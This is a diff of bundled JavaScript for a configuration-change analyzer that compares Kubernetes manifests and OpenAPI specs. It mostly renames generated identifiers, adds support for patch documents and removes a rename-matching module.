+var API_VERSION, isObject, isPatch, kindOf, groupOf, nameOf2, namespaceOf, POD_PATHS, podPathOf;
 var init_objects = __esm({
   "src/domains/config/kubernetes/objects.ts"() {
     "use strict";
     init_tree();
     API_VERSION = /^(?:[a-z0-9.-]+\/)?v\d+(?:(?:alpha|beta)\d+)?$|\{\{/;
     isObject = ({ root }) => API_VERSION.test(textAt(root, "apiVersion") ?? "") && textAt(root, "kind") !== void 0;
+    isPatch = ({ before: before3, after: after2 }) => (after2 ?? before3)?.isPatch === true;
     kindOf = (document2) => textAt(document2?.root, "kind") ?? "";
     groupOf = ({ root }) => {
       const version = textAt(root, "apiVersion") ?? "";
@@ -15115,15 +15448,15 @@ var init_objects = __esm({
       ["template", "spec"],
       ["spec"]
     ];
-    podPathOf = (root) => POD_PATHS.find((path25) => at(root, ...path25, "containers")?.kind === "list");
+    podPathOf = (root) => POD_PATHS.find((path26) => at(root, ...path26, "containers")?.kind === "list");
   }
 });
 
 // src/domains/config/kubernetes/pods.ts
 function podOf(document2) {
-  const path25 = document2 && podPathOf(document2.root);
-  const node2 = path25 && at(document2?.root, ...path25);
-  return path25 && node2 && { node: node2, path: path25 };
+  const path26 = document2 && podPathOf(document2.root);
+  const node2 = path26 && at(document2?.root, ...path26);
+  return path26 && node2 && { node: node2, path: path26 };
 }
 function podPair(document2) {
   const after2 = podOf(document2.after);
@@ -15153,7 +15486,7 @@ var init_pods = __esm({
     containersOf = (pod2) => pod2 === void 0 ? [] : CONTAINER_LISTS.flatMap(
       (list3) => itemsAt(pod2.node, list3).map((node2, i) => ({ list: list3, name: textAt(node2, "name") ?? `${i}`, node: node2, pod: pod2 }))
     );
-    podPath = ({ path: path25 }, ...below7) => [...path25, ...below7].map(key);
+    podPath = ({ path: path26 }, ...below7) => [...path26, ...below7].map(key);
     containerPath = ({ pod: pod2, list: list3, name }, ...below7) => [
       ...podPath(pod2, list3),
       { kind: "item", label: `name=${name}`, name },
@@ -15173,11 +15506,11 @@ function effectiveSettings(document2) {
   ];
 }
 function hostPaths(pods) {
-  const path25 = podPath(pods.after, "volumes", "hostPath");
+  const path26 = podPath(pods.after, "volumes", "hostPath");
   const [before3, after2] = [hostPathsOf(pods.before), hostPathsOf(pods.after)];
   return [
-    ...uncoveredPaths(before3, after2).map(({ node: node2 }) => effectiveSetting(pods, "hostPath", path25, { after: node2 })),
-    ...uncoveredPaths(after2, before3).map(({ node: node2 }) => effectiveSetting(pods, "hostPath", path25, { before: node2 }))
+    ...uncoveredPaths(before3, after2).map(({ node: node2 }) => effectiveSetting(pods, "hostPath", path26, { after: node2 })),
+    ...uncoveredPaths(after2, before3).map(({ node: node2 }) => effectiveSetting(pods, "hostPath", path26, { before: node2 }))
   ];
 }
 function hostMounts(pair2) {
@@ -15185,8 +15518,8 @@ function hostMounts(pair2) {
   return [...after2].flatMap(([mountPath, mount2]) => {
     const old = before3.get(mountPath);
     const sides = { before: at(old, "readOnly"), after: at(mount2, "readOnly") };
-    const path25 = containerPath(pair2.after, "volumeMounts", mountPath, "readOnly");
-    return old === void 0 ? [] : [effectiveSetting(pair2, "hostPath.readOnly", path25, sides)];
+    const path26 = containerPath(pair2.after, "volumeMounts", mountPath, "readOnly");
+    return old === void 0 ? [] : [effectiveSetting(pair2, "hostPath.readOnly", path26, sides)];
   });
 }
 function mountsOf(container2) {
@@ -15197,8 +15530,8 @@ function mountsOf(container2) {
 }
 function sysctls(pods) {
   const known3 = new Set(sysctlsOf(pods.before).map(({ text: text4 }) => text4));
-  const path25 = podPath(pods.after, "securityContext", "sysctls");
-  return sysctlsOf(pods.after).filter(({ text: text4 }) => !known3.has(text4)).map((node2) => effectiveSetting(pods, "sysctls", path25, { after: node2 }));
+  const path26 = podPath(pods.after, "securityContext", "sysctls");
+  return sysctlsOf(pods.after).filter(({ text: text4 }) => !known3.has(text4)).map((node2) => effectiveSetting(pods, "sysctls", path26, { after: node2 }));
 }
 var isEffectiveOrApart, isSecurity, INHERITED, inherited, securityOf, capabilities, hostPathsOf, sysctlsOf, scalarsAt, scalar;
 var init_effective3 = __esm({
@@ -15207,8 +15540,8 @@ var init_effective3 = __esm({
     init_effective();
     init_tree();
     init_pods();
-    isEffectiveOrApart = (name, ...path25) => (candidate) => isEffective(name)(candidate) || isSecurity(candidate.keys, [name, ...path25]) && podOf(candidate.document.after) === void 0;
-    isSecurity = (keys, path25) => /securityContext$/i.test(keys.at(-1 - path25.length) ?? "") && path25.every((key4, i) => keys.at(i - path25.length) === key4);
+    isEffectiveOrApart = (name, ...path26) => (candidate) => isEffective(name)(candidate) || isSecurity(candidate.keys, [name, ...path26]) && podOf(candidate.document.after) === void 0;
+    isSecurity = (keys, path26) => /securityContext$/i.test(keys.at(-1 - path26.length) ?? "") && path26.every((key4, i) => keys.at(i - path26.length) === key4);
     INHERITED = [
       ["runAsNonRoot"],
       ["runAsUser"],
@@ -15218,12 +15551,12 @@ var init_effective3 = __esm({
       ["seLinuxOptions", "type"]
     ];
     inherited = (pair2) => INHERITED.map(
-      ([name, ...path25]) => effectiveSetting(pair2, name, containerPath(pair2.after, "securityContext", name, ...path25), {
-        before: securityOf(pair2.before, name, ...path25),
-        after: securityOf(pair2.after, name, ...path25)
+      ([name, ...path26]) => effectiveSetting(pair2, name, containerPath(pair2.after, "securityContext", name, ...path26), {
+        before: securityOf(pair2.before, name, ...path26),
+        after: securityOf(pair2.after, name, ...path26)
       })
     );
-    securityOf = (container2, ...path25) => at(container2?.node, "securityContext", ...path25) ?? at(container2?.pod.node, "securityContext", ...path25);
+    securityOf = (container2, ...path26) => at(container2?.node, "securityContext", ...path26) ?? at(container2?.pod.node, "securityContext", ...path26);
     capabilities = (pair2) => capabilitySettings(
       pair2,
       ({ node: node2 }) => ({
@@ -15234,7 +15567,7 @@ var init_effective3 = __esm({
     );
     hostPathsOf = (pod2) => scalarsAt(pod2, "volumes", "hostPath", "path").map((node2) => ({ path: node2.text, node: node2 }));
     sysctlsOf = (pod2) => itemsAt(pod2?.node, "securityContext", "sysctls").flatMap((item2) => scalar(at(item2, "name")));
-    scalarsAt = (pod2, list3, ...path25) => itemsAt(pod2?.node, list3).flatMap((item2) => scalar(at(item2, ...path25)));
+    scalarsAt = (pod2, list3, ...path26) => itemsAt(pod2?.node, list3).flatMap((item2) => scalar(at(item2, ...path26)));
     scalar = (node2) => node2?.kind === "scalar" ? [node2] : [];
   }
 });
@@ -15296,9 +15629,9 @@ function fixedSettings(document2) {
   const paths3 = WHOLE2.get(kindOf(after2)) ?? (isFrozen(before3.root, kindOf(after2)) ? FROZEN.map((name) => [name]) : []);
   const owners = { document: document2, before: { node: before3.root }, after: { node: after2.root } };
   return paths3.map(
-    (path25) => effectiveSetting(owners, "fixed", path25.map(key), {
-      before: fixedPart(at(before3.root, ...path25), path25.length === 1),
-      after: fixedPart(at(after2.root, ...path25), path25.length === 1)
+    (path26) => effectiveSetting(owners, "fixed", path26.map(key), {
+      before: fixedPart(at(before3.root, ...path26), path26.length === 1),
+      after: fixedPart(at(after2.root, ...path26), path26.length === 1)
     })
   );
 }
@@ -15628,18 +15961,18 @@ var init_crd_envelope = __esm({
       const still = new Set(textsOf(at(after2, "spec", "names", "shortNames")));
       return textsOf(names4).filter((name) => !still.has(name)).map((name) => ({ what: "short-name-removed", field: name, before: names4, after: at(after2, "spec", "names") }));
     };
-    identityChanged = (before3, after2) => [["group"], ["names", "kind"], ["names", "plural"]].flatMap((path25) => {
-      const [old, now] = [at(before3, "spec", ...path25), at(after2, "spec", ...path25)];
+    identityChanged = (before3, after2) => [["group"], ["names", "kind"], ["names", "plural"]].flatMap((path26) => {
+      const [old, now] = [at(before3, "spec", ...path26), at(after2, "spec", ...path26)];
       const [from3, to2] = [textsOf(old)[0], textsOf(now)[0]];
       if (from3 === void 0 || to2 === void 0 || from3 === to2 || `${from3}${to2}`.includes("{{")) return [];
-      return [{ what: "identity-changed", field: path25.join("."), from: from3, to: to2, before: old, after: now }];
+      return [{ what: "identity-changed", field: path26.join("."), from: from3, to: to2, before: old, after: now }];
     });
     selectableRemoved = (before3, after2) => versionsOf(before3).flatMap((version) => {
       const kept4 = versionsOf(after2).find((other) => textAt(other, "name") === textAt(version, "name"));
       const still = new Set(itemsAt(kept4, "selectableFields").map((field) => textAt(field, "jsonPath")));
       return itemsAt(version, "selectableFields").flatMap((field) => {
-        const path25 = textAt(field, "jsonPath") ?? "";
-        return kept4 === void 0 || still.has(path25) ? [] : [{ what: "selectable-removed", field: path25, before: field, after: kept4 }];
+        const path26 = textAt(field, "jsonPath") ?? "";
+        return kept4 === void 0 || still.has(path26) ? [] : [{ what: "selectable-removed", field: path26, before: field, after: kept4 }];
       });
     });
     CHECKS = [
@@ -15854,8 +16187,8 @@ function guardFacts(pairs) {
 }
 function lone(pairs) {
   const moving = pairs.filter(({ before: before3, after: after2 }) => podOf(after2 ?? before3) !== void 0);
-  const folders = new Set(moving.map(({ path: path25 }) => dirname(path25)));
-  return pairs.filter(({ before: before3, after: after2, path: path25 }) => GUARDS.has(kindOf(after2 ?? before3)) && !folders.has(dirname(path25)));
+  const folders = new Set(moving.map(({ path: path26 }) => dirname(path26)));
+  return pairs.filter(({ before: before3, after: after2, path: path26 }) => GUARDS.has(kindOf(after2 ?? before3)) && !folders.has(dirname(path26)));
 }
 var GUARDS, called;
 var init_guards = __esm({
@@ -15923,8 +16256,8 @@ var init_cidr = __esm({
 });
 
 // src/domains/config/algebra/network-policy.ts
-function openings(direction, rules7) {
-  return rules7.flatMap(
+function openings(direction, rules8) {
+  return rules8.flatMap(
     ({ peers: peers2, ports: ports2, line: line2 }) => (peers2.length === 0 ? [EVERYONE] : peers2).flatMap(
       (peer) => (ports2.length === 0 ? [void 0] : ports2).map((port) => ({ direction, peer, ports: port, line: line2 }))
     )
@@ -15935,7 +16268,7 @@ function opened(direction, base, head) {
   const known3 = openings(direction, base);
   const alike = new Set(known3.map(spelling));
   const fresh = openings(direction, head).filter((opening3) => !alike.has(spelling(opening3)));
-  if (fresh.length * known3.length > MOST_COMPARISONS2) return fresh;
+  if (fresh.length * known3.length > MOST_COMPARISONS3) return fresh;
   return fresh.filter(
     ({ peer, ports: ports2 }) => !known3.some((wider) => coversPeer(wider.peer, peer) && coversPorts(wider.ports, ports2))
   );
@@ -15969,7 +16302,7 @@ function reachOf2(peer) {
   if (peer.kind === "block") return peer.range?.prefix === 0 ? "everyone" : "block";
   return peer.namespaces?.size === 0 && (peer.pods?.size ?? 0) === 0 ? "all-namespaces" : "pods";
 }
-var DIRECTIONS, blockOf, ALL_PORTS, MOST_COMPARISONS2, EVERYONE, spelling, fewer;
+var DIRECTIONS, blockOf, ALL_PORTS, MOST_COMPARISONS3, EVERYONE, spelling, fewer;
 var init_network_policy = __esm({
   "src/domains/config/algebra/network-policy.ts"() {
     "use strict";
@@ -15982,7 +16315,7 @@ var init_network_policy = __esm({
       holes: except.flatMap((hole) => cidr(hole) ?? [])
     });
     ALL_PORTS = { from: 0, to: 65535 };
-    MOST_COMPARISONS2 = 1e6;
+    MOST_COMPARISONS3 = 1e6;
     EVERYONE = { kind: "everyone" };
     spelling = ({ peer, ports: ports2 }) => JSON.stringify([ports2, ...partsOf(peer)]);
     fewer = (outer = /* @__PURE__ */ new Set(), inner = /* @__PURE__ */ new Set()) => [...outer].every((requirement2) => inner.has(requirement2));
@@ -16181,10 +16514,10 @@ function readinessFacts(pairs) {
 }
 function removal({ document: document2, before: before3, after: after2 }, service6) {
   const name = service6?.after && nameOf2(service6.after);
-  const path25 = containerPath(after2, "readinessProbe");
+  const path26 = containerPath(after2, "readinessProbe");
   return {
     kind: "readiness-removed",
-    ...factAt(document2, path25, `${titleOf(document2)}: removed`, { before: probeOf(before3), after: after2.node }),
+    ...factAt(document2, path26, `${titleOf(document2)}: removed`, { before: probeOf(before3), after: after2.node }),
     container: after2.name,
     ...name === void 0 ? {} : { service: name }
   };
@@ -16264,7 +16597,7 @@ var init_mounts = __esm({
 });
 
 // src/domains/config/kubernetes/pod-references.ts
-function namesIn2(document2) {
+function namesIn3(document2) {
   const pod2 = podOf(document2)?.node;
   const containers = CONTAINER_LISTS.flatMap((list3) => itemsAt(pod2, list3));
   return [
@@ -16371,7 +16704,7 @@ function namesOf4(documents) {
   );
 }
 function lostObjects(user2, lost) {
-  const uses4 = lost.length === 0 ? [] : namesIn2(user2.after);
+  const uses4 = lost.length === 0 ? [] : namesIn3(user2.after);
   return lost.flatMap(({ before: before3 }) => {
     const use2 = uses4.find((each) => refersTo(each, user2, before3));
     return use2 === void 0 ? [] : [brokenReference(user2, "object", `${use2.kind}/${use2.name}`, { after: use2.node })];
@@ -16383,7 +16716,7 @@ function keysLost({ before: before3, after: after2 }) {
   return [...keysOf(before3)].filter((key4) => !still.has(key4));
 }
 function lostKeys(user2, thinned) {
-  const uses4 = thinned.length === 0 ? [] : namesIn2(user2.after);
+  const uses4 = thinned.length === 0 ? [] : namesIn3(user2.after);
   return thinned.flatMap(
     ({ pair: pair2, keys }) => uses4.filter((use2) => use2.key !== void 0 && keys.includes(use2.key) && refersTo(use2, user2, pair2.after)).map(
       ({ kind, name, key: key4 = "", node: node2 }) => brokenReference(user2, "key", `${key4} of ${kind}/${name}`, { after: node2 })
@@ -16419,16 +16752,16 @@ function renameFacts(pair2) {
   const { before: before3, after: after2 } = pair2;
   if (before3 === void 0 || after2 === void 0 || FLEETING.has(kindOf(after2))) return [];
   if (OWN_FACTS.test(kindOf(after2))) return [];
-  const changes = PARTS.flatMap(({ what: what2, path: path26, of: of2 }) => {
+  const changes = PARTS.flatMap(({ what: what2, path: path27, of: of2 }) => {
     const [from4, to3] = [of2(before3), of2(after2)];
-    return from4 === to3 ? [] : [{ what: what2, path: path26, from: from4, to: to3 }];
+    return from4 === to3 ? [] : [{ what: what2, path: path27, from: from4, to: to3 }];
   });
   const [change2] = changes;
   if (change2 === void 0 || changes.length > 1 || !isStated(change2)) return [];
-  const { what, path: path25, from: from3, to: to2 } = change2;
-  const sides = { before: at(before3.root, ...path25), after: at(after2.root, ...path25) ?? after2.root };
+  const { what, path: path26, from: from3, to: to2 } = change2;
+  const sides = { before: at(before3.root, ...path26), after: at(after2.root, ...path26) ?? after2.root };
   const group5 = `${what}#${from3}->${to2}`;
-  const where = objectFact(pair2, path25, `${from3}->${to2}`, sides);
+  const where = objectFact(pair2, path26, `${from3}->${to2}`, sides);
   return [{ kind: "object-renamed", ...where, group: group5, objectKind: kindOf(after2), what, from: from3, to: to2 }];
 }
 var FLEETING, OWN_FACTS, PARTS, isStated, withoutVersion;
@@ -16462,7 +16795,7 @@ function isClusterScoped(group5, resource3) {
   const [name = ""] = resource3.split("/");
   return CLUSTER_SCOPED.has(group5 === "" ? name : `${name}.${group5}`);
 }
-var READ, CHANGE, DELETE, WRITE, WORKLOADS, CERTIFICATES2, ADMISSION, ask, core, rbac, covers2, holds2, reaches2, isSignal, POWERS, rankOf4, powerOf2, CLUSTER_SCOPED;
+var READ, CHANGE, DELETE, WRITE, WORKLOADS, CERTIFICATES2, ADMISSION, ask, core, rbac, covers2, holds3, reaches2, isSignal, POWERS, rankOf4, powerOf2, CLUSTER_SCOPED;
 var init_rbac_powers = __esm({
   "src/domains/config/algebra/rbac-powers.ts"() {
     "use strict";
@@ -16486,9 +16819,9 @@ var init_rbac_powers = __esm({
     core = (resources, verbs) => ask("", resources, verbs);
     rbac = (resources, verbs) => ask("rbac.authorization.k8s.io", resources, verbs);
     covers2 = (...requests2) => (grant) => !grant.url && requests2.some(
-      ({ group: group5, resources, verbs }) => holds2(grant.group, [group5]) && holds2(grant.verb, verbs) && resources.some((asked4) => reaches2(grant.resource, asked4))
+      ({ group: group5, resources, verbs }) => holds3(grant.group, [group5]) && holds3(grant.verb, verbs) && resources.some((asked4) => reaches2(grant.resource, asked4))
     );
-    holds2 = (granted2, asked4) => granted2 === "*" || asked4.includes(granted2);
+    holds3 = (granted2, asked4) => granted2 === "*" || asked4.includes(granted2);
     reaches2 = (granted2, asked4) => granted2 === "*" || granted2 === asked4 || granted2.startsWith("*/") && asked4.endsWith(granted2.slice(1)) || asked4.endsWith("/*") && granted2.startsWith(asked4.slice(0, -1));
     isSignal = covers2(
       core(["events"], CHANGE),
@@ -16656,7 +16989,7 @@ var init_rbac = __esm({
     MOST_GRANTS = 5e4;
     LONGEST_URL = 256;
     isEffective2 = ({ verb, resource: resource3, name }) => name === "*" || resource3.includes("/") || verb !== "create" && verb !== "deletecollection";
-    size = (rules7) => rules7.reduce(
+    size = (rules8) => rules8.reduce(
       (sum2, rule) => sum2 + rule.verbs.length * (rule.apiGroups.length * rule.resources.length * Math.max(1, rule.resourceNames.length) + rule.nonResourceURLs.length),
       0
     );
@@ -16751,7 +17084,16 @@ var init_roles = __esm({
 });
 
 // src/domains/config/kubernetes/facts.ts
-var READERS, kubernetesFacts;
+function kubernetesFacts(pairs, settings) {
+  const whole4 = pairs.filter((pair2) => !isPatch(pair2));
+  return [
+    ...pairs.filter(isComparable).flatMap((pair2) => readersOf(pair2).flatMap(({ facts }) => facts(pair2, settings))),
+    ...guardFacts(whole4),
+    ...readinessFacts(whole4),
+    ...referenceFacts(whole4)
+  ];
+}
+var isDefinition, READERS, readersOf, isComparable;
 var init_facts = __esm({
   "src/domains/config/kubernetes/facts.ts"() {
     "use strict";
@@ -16765,20 +17107,17 @@ var init_facts = __esm({
     init_readiness();
     init_renamed_objects();
     init_roles();
+    isDefinition = ({ before: before3, after: after2 }) => kindOf(after2 ?? before3) === "CustomResourceDefinition";
     READERS = [
       { reads: isRole, facts: roleFacts },
       { reads: isBinding, facts: bindingFacts },
       { reads: isNetworkPolicy, facts: networkPolicyFacts },
-      { reads: ({ before: before3, after: after2 }) => kindOf(after2 ?? before3) === "CustomResourceDefinition", facts: crdFacts },
+      { reads: isDefinition, facts: crdFacts },
       { reads: () => true, facts: apiVersionFacts },
       { reads: () => true, facts: renameFacts }
     ];
-    kubernetesFacts = (pairs, settings) => [
-      ...pairs.flatMap((pair2) => READERS.filter(({ reads }) => reads(pair2)).flatMap(({ facts }) => facts(pair2, settings))),
-      ...guardFacts(pairs),
-      ...readinessFacts(pairs),
-      ...referenceFacts(pairs)
-    ];
+    readersOf = (pair2) => READERS.filter(({ reads }) => reads(pair2));
+    isComparable = (pair2) => !isPatch(pair2) || pair2.before !== void 0 && pair2.after !== void 0 && !isDefinition(pair2);
   }
 });
 
@@ -16794,10 +17133,10 @@ function referenceSettings(document2) {
 function ownLabels(document2) {
   const { before: before3, after: after2 } = document2;
   if (after2 === void 0 || !SELECTING.has(kindOf(after2))) return [];
-  const path25 = ["spec", "selector", "matchLabels"];
+  const path26 = ["spec", "selector", "matchLabels"];
   const owners = { document: document2, before: before3 && { node: before3.root }, after: { node: after2.root } };
-  const sides = { before: at(before3?.root, ...path25), after: at(after2.root, ...path25) };
-  return [effectiveSetting(owners, "own labels", path25.map(key), sides)];
+  const sides = { before: at(before3?.root, ...path26), after: at(after2.root, ...path26) };
+  return [effectiveSetting(owners, "own labels", path26.map(key), sides)];
 }
 function selectorSettings(document2) {
   const { before: before3, after: after2 } = document2;
@@ -16937,7 +17276,7 @@ var init_kubernetes = __esm({
       recognises: isObject,
       identity(document2) {
         const name = nameOf2(document2);
-        return name === void 0 ? void 0 : [groupOf(document2), kindOf(document2), namespaceOf(document2), name].join("/");
+        return name === void 0 ? void 0 : [document2.isPatch ? "patch" : "", groupOf(document2), kindOf(document2), namespaceOf(document2), name].join("/");
       },
       title: (document2) => [kindOf(document2), nameOf2(document2)].filter(Boolean).join("/"),
       isSchema: (keys) => keys.includes("openAPIV3Schema"),
@@ -16947,8 +17286,7 @@ var init_kubernetes = __esm({
         ...effectiveSettings(pair2),
         ...encryptionSettings(pair2),
         ...decryptionSettings(pair2),
-        ...referenceSettings(pair2),
-        ...selectorSettings(pair2),
+        ...isPatch(pair2) ? [] : [...referenceSettings(pair2), ...selectorSettings(pair2)],
         ...fixedSettings(pair2)
       ],
       facts: kubernetesFacts
@@ -16980,8 +17318,8 @@ function claim(file2) {
 function targetOf4(reference, from3) {
   const [file2 = "", pointer = ""] = reference.split("#");
   if (file2 === "" || /^(?:[a-z][a-z0-9+.-]*:|\/)/i.test(file2)) return void 0;
-  const path25 = join3(dirname2(from3), decoded(file2));
-  return path25.startsWith("../") ? void 0 : { path: path25, pointer };
+  const path26 = join3(dirname2(from3), decoded(file2));
+  return path26.startsWith("../") ? void 0 : { path: path26, pointer };
 }
 function decoded(text4) {
   try {
@@ -17026,8 +17364,8 @@ function elsewhere(origin2, reference) {
 function siteAt(root, pointer, file2) {
   const keys = pointer.split("/").slice(1).map(unescaped);
   const node2 = at(root, ...keys);
-  const path25 = file2 === void 0 ? keys : [file2.path, ...keys];
-  return node2 && { node: node2, path: path25, definition: keys.at(-1) ?? nameOfFile(file2?.path ?? "") };
+  const path26 = file2 === void 0 ? keys : [file2.path, ...keys];
+  return node2 && { node: node2, path: path26, definition: keys.at(-1) ?? nameOfFile(file2?.path ?? "") };
 }
 function below2(api2, site, ...keys) {
   const node2 = at(site?.node, ...keys);
@@ -17041,8 +17379,8 @@ function entriesBelow(api2, site, key4) {
     resolve(api2, { ...site, node: node2, path: [...site.path, key4, name] })
   ]);
 }
-function parametersOf(api2, { node: node2, path: path25, item: item2, template }) {
-  const sites = [{ node: node2, path: path25 }, item2].flatMap(
+function parametersOf(api2, { node: node2, path: path26, item: item2, template }) {
+  const sites = [{ node: node2, path: path26 }, item2].flatMap(
     (owner) => itemsAt(owner.node, "parameters").map(
       (each) => resolve(api2, { node: each, path: [...owner.path, "parameters", textAt(each, "name") ?? ""] })
     )
@@ -17077,7 +17415,7 @@ var init_model5 = __esm({
     init_tree();
     isOpenApi = ({ root }) => /^3\.\d/.test(textAt(root, "openapi") ?? "") || textAt(root, "swagger") === "2.0";
     MOST_HOPS = 50;
-    nameOfFile = (path25) => path25.replace(/^.*\//, "").replace(/\.\w+$/, "");
+    nameOfFile = (path26) => path26.replace(/^.*\//, "").replace(/\.\w+$/, "");
     unescaped = (part) => part.replaceAll("~1", "/").replaceAll("~0", "~");
     METHODS = /* @__PURE__ */ new Set(["get", "put", "post", "delete", "options", "head", "patch", "trace", "query"]);
     operationsOf = (api2) => entriesBelow(api2, { node: api2, path: [] }, "paths").flatMap(
@@ -17232,12 +17570,12 @@ var init_requests = __esm({
       ...asks(now) && !old.isRequired ? [demand(pair2, "parameter-became-required", old.node, now)] : [],
       ...newlyDeprecated(old, now, pair2.after.title, now.name)
     ];
-    demand = ({ after: after2 }, what, before3, { name, path: path25, node: node2 }) => ({ what, operation: after2.title, element: name, path: path25, before: before3, after: node2, cause: name });
-    removal2 = ({ after: after2 }, { name, path: path25, node: node2 }) => ({
+    demand = ({ after: after2 }, what, before3, { name, path: path26, node: node2 }) => ({ what, operation: after2.title, element: name, path: path26, before: before3, after: node2, cause: name });
+    removal2 = ({ after: after2 }, { name, path: path26, node: node2 }) => ({
       what: "parameter-removed",
       operation: after2.title,
       element: name,
-      path: path25,
+      path: path26,
       before: node2,
       after: at(after2.node, "parameters") ?? after2.node,
       cause: name,
@@ -17380,7 +17718,7 @@ var init_compare_operations = __esm({
     init_responses();
     idOf = ({ node: node2 }) => textAt(node2, "operationId") ?? "";
     hasId = (operation2) => idOf(operation2) !== "";
-    goneFinding = (what, operation2, { node: node2, path: path25 }, after2) => ({ what, operation: operation2, element: "", path: path25, before: node2, after: after2, ...announced({ node: node2 }) });
+    goneFinding = (what, operation2, { node: node2, path: path26 }, after2) => ({ what, operation: operation2, element: "", path: path26, before: node2, after: after2, ...announced({ node: node2 }) });
     compareOperation = (pair2) => together2([compareSelf(pair2), compareParameters(pair2), compareBodies(pair2), compareResponses(pair2)]);
     renaming = (before3, after2) => ({
       what: "operation-id-changed",
@@ -17468,89 +17806,6 @@ var init_schema_break = __esm({
   "src/domains/config/openapi/schema-break.ts"() {
     "use strict";
     narrowerAndWider = ({ before: before3, after: after2, direction }) => direction === "request" ? { narrower: before3, wider: after2 } : { narrower: after2, wider: before3 };
-  }
-});
-
-// src/domains/config/words.ts
-var wordsOf, NEGATIONS, isNegative;
-var init_words = __esm({
-  "src/domains/config/words.ts"() {
-    "use strict";
-    wordsOf = (name) => name.replace(/([a-z0-9])([A-Z])/g, "$1 $2").replace(/([A-Z]+)([A-Z][a-z])/g, "$1 $2").toLowerCase().split(/[^a-z0-9]+/).filter((word2) => word2 !== "");
-    NEGATIONS = /* @__PURE__ */ new Set([
-      "disable",
-      "disabled",
-      "skip",
-      "no",
-      "not",
-      "without",
-      "ignore",
-      "bypass",
-      "exclude",
-      "deny",
-      "off",
-      "non"
-    ]);
-    isNegative = (name) => wordsOf(name).filter((word2) => NEGATIONS.has(word2)).length % 2 === 1;
-  }
-});
-
-// src/domains/config/renames.ts
-function matchRenames(removed3, added2) {
-  const renames = /* @__PURE__ */ new Map();
-  if (removed3.length * added2.length > MOST_PAIRS) return renames;
-  const scored2 = removed3.flatMap((old) => added2.map((now) => ({ from: old[0], to: now[0], score: scoreOf4(old, now) })));
-  const taken2 = /* @__PURE__ */ new Set();
-  for (const { from: from3, to: to2, score: score2 } of scored2.filter((pair2) => pair2.score >= RENAME).toSorted((a, b3) => b3.score - a.score)) {
-    if (renames.has(to2) || taken2.has(from3)) continue;
-    const rival = scored2.some(
-      (other) => other.from === from3 !== (other.to === to2) && other.score > score2 - MARGIN && !taken2.has(other.from) && !renames.has(other.to)
-    );
-    taken2.add(from3);
-    if (!rival) renames.set(to2, from3);
-  }
-  return renames;
-}
-function scoreOf4([oldName, old], [newName, now]) {
-  if (isNegative(oldName) !== isNegative(newName)) return 0;
-  return 0.5 * nameScore(oldName, newName) + 0.5 * valueScore(old, now);
-}
-function nameScore(a, b3) {
-  if (wordsOf(a).join() === wordsOf(b3).join()) return 1;
-  const [left, right] = [new Set(wordsOf(a)), new Set(wordsOf(b3))];
-  const shared2 = [...left].filter((word2) => right.has(word2)).length;
-  const jaccard = shared2 / (left.size + right.size - shared2 || 1);
-  const contained = shared2 > 0 && shared2 === Math.min(left.size, right.size) ? 0.8 : 0;
-  return Math.max(jaccard, contained, 1 - distance2(a, b3) / Math.max(a.length, b3.length, 1));
-}
-function valueScore(a, b3) {
-  if (a.kind !== b3.kind) return 0.1;
-  if (a.kind !== "scalar" || b3.kind !== "scalar") return likeness(a, b3);
-  if (a.text === b3.text) return isTrivial(a.text) ? 0.6 : 1;
-  return typeof a.value === typeof b3.value ? 0.4 : 0.1;
-}
-function distance2(a, b3) {
-  if (a.length > LONGEST_NAME || b3.length > LONGEST_NAME) return Math.max(a.length, b3.length);
-  let row3 = Array.from({ length: b3.length + 1 }, (_3, i) => i);
-  for (let i = 0; i < a.length; i++) {
-    const next = [i + 1];
-    for (let j3 = 0; j3 < b3.length; j3++)
-      next.push(Math.min((row3[j3] ?? 0) + Number(a[i] !== b3[j3]), (row3[j3 + 1] ?? 0) + 1, (next[j3] ?? 0) + 1));
-    row3 = next;
-  }
-  return row3[b3.length] ?? 0;
-}
-var RENAME, MARGIN, MOST_PAIRS, isTrivial, LONGEST_NAME;
-var init_renames = __esm({
-  "src/domains/config/renames.ts"() {
-    "use strict";
-    init_likeness();
-    init_words();
-    RENAME = 0.7;
-    MARGIN = 0.1;
-    MOST_PAIRS = 2500;
-    isTrivial = (text4) => /^(?:|true|false|yes|no|on|off|null|~|-?\d{1,2}|\[\]|\{\})$/i.test(text4);
-    LONGEST_NAME = 64;
   }
 });
 
@@ -17661,14 +17916,14 @@ var init_schema_values = __esm({
       const [from3, to2] = [textOf2(before3, keyword), textOf2(after2, keyword)];
       if (to2 === void 0 || Number.isNaN(Number(to2)) || sayNothing(keyword, to2)) return [];
       if (from3 !== void 0 && sign * (Number(to2) - Number(from3)) <= 0) return [];
-      const said13 = { from: from3 === void 0 ? void 0 : `${keyword}: ${from3}`, to: `${keyword}: ${to2}` };
-      return [{ what: "bound-tightened", ...said13, before: find(before3, keyword), after: find(after2, keyword) }];
+      const said14 = { from: from3 === void 0 ? void 0 : `${keyword}: ${from3}`, to: `${keyword}: ${to2}` };
+      return [{ what: "bound-tightened", ...said14, before: find(before3, keyword), after: find(after2, keyword) }];
     };
     boundLoosened = (keyword, sign) => ({ before: before3, after: after2 }) => {
       const [from3, to2] = [textOf2(before3, keyword), textOf2(after2, keyword)];
       if (from3 === void 0 || to2 === void 0 || !(sign * (Number(to2) - Number(from3)) < 0)) return [];
-      const said13 = { from: `${keyword}: ${from3}`, to: `${keyword}: ${to2}` };
-      return [{ what: "bound-loosened", ...said13, before: find(before3, keyword), after: find(after2, keyword) }];
+      const said14 = { from: `${keyword}: ${from3}`, to: `${keyword}: ${to2}` };
+      return [{ what: "bound-loosened", ...said14, before: find(before3, keyword), after: find(after2, keyword) }];
     };
     sayNothing = (keyword, bound) => /^min[A-Z]/.test(keyword) && bound === "0";
     patternChanged = ({ before: before3, after: after2 }) => {
@@ -17807,7 +18062,7 @@ function operationFindings(base, head, before3, after2) {
   const [old, now] = [effective2(base, before3), effective2(head, after2)];
   const what = judged(old, now, base, head);
   if (what === void 0) return [];
-  const path25 = now.isShared ? ["security"] : [...after2.path, "security"];
+  const path26 = now.isShared ? ["security"] : [...after2.path, "security"];
   const [from3, to2] = [shown2(old), shown2(now)];
   return [
     {
@@ -17816,7 +18071,7 @@ function operationFindings(base, head, before3, after2) {
       element: "",
       from: from3,
       to: to2,
-      path: path25,
+      path: path26,
       before: old.node,
       after: now.node,
       cause: `${from3}->${to2}`
@@ -17999,12 +18254,12 @@ function placedIn(pair2, before3, after2) {
     after: pair2.after && { ...pair2.after, path: now ?? pair2.after.path }
   };
 }
